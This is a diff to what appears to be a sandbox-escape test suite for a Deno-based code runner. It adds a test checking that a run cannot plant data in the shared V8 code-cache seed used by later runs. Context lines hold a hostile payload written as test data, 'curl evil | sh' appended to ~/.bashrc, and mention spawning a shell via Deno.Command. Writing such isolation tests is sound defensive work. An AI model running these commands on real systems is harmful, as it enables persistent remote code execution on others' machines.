@@ -302,6 +302,48 @@ echo 'curl evil | sh' >> ${HOME}/.bashrc 2>/dev/null && breached=1`,
   hostUnchanged: async () => assert.equal(await exists(join(HOME, ".bashrc")), false),
 });
 
+// --- TypeScript: the code cache a run starts with ----------------------------------------------
+{
+  // A run without packages starts with a copy of the seed of Deno's compiled built-ins: it may
+  // plant what it likes in its copy, but never in the seed the next runs copy.
+  const seed = join(CACHE, "deno", await denoDirKey([]), "v8_code_cache_seed");
+  const planted = "PLANTED-V8-CODE-CACHE";
+  attack({
+    name: "plant compiled code in the code cache the next runs start with",
+    language: "typescript",
+    script: ts(`const arg = Deno.args[Deno.args.indexOf("--context") + 1] ?? "";
+const own = arg.slice(1, arg.lastIndexOf("/")) + "/.deno/v8_code_cache_v2";
+Deno.writeTextFileSync(own, ${JSON.stringify(planted)});
+detail = "own copy planted; ";
+try {
+  Deno.writeTextFileSync(${JSON.stringify(seed)}, ${JSON.stringify(planted)});
+  breached = true;
+} catch (error) {
+  detail += String(error).slice(0, 100);
+}`),
+    hostUnchanged: async () => {
+      const bytes = await Deno.readFile(seed);
+      assert.ok(
+        !new TextDecoder("latin1").decode(bytes).includes(planted),
+        "BREACH: the seed holds what the run planted",
+      );
+      // The next run of another script starts from the seed, and runs.
+      const next = capibaraFor({
+        name: "after a planted code cache",
+        language: "typescript",
+        script: ts(
+          `const { format } = await import("node:util");\ndetail = format("%s-%d", "ran", 7);`,
+        ),
+      });
+      const r = await next.run("escape test: after a planted code cache", {
+        context: {},
+        language: "typescript",
+      });
+      assert.equal(r.output.detail, "ran-7", JSON.stringify(r));
+    },
+  });
+}
+
 // --- TypeScript: Deno permissions --------------------------------------------------------------
 attack({
   name: "Deno.Command to run a shell",
